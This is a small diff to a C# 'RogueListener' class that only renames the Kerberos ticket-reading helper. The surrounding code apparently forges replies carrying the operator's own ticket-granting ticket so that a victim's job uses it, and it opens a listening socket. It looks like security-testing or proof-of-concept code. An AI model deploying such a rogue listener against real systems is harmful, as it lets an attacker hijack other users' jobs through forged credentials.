@@ -20,7 +20,7 @@ internal static class RogueListener
         if (answer is not ("close" or "plain" or "sealed"))
             throw new ArgumentException("--answer is close, plain or sealed");
         // The forged reply carries this user's own ticket: what they would like the victim's job to use.
-        byte[]? ownTicket = answer == "sealed" ? KerberosCredentials.ReadTicketGrantingTicket() : null;
+        byte[]? ownTicket = answer == "sealed" ? KerberosTickets.ReadTicketGrantingTicket() : null;
 
         using var listener = new Socket(SocketType.Stream, ProtocolType.Tcp);
         listener.SetSocketOption(SocketOptionLevel.Socket, SocketOptionName.ReuseAddress, true);
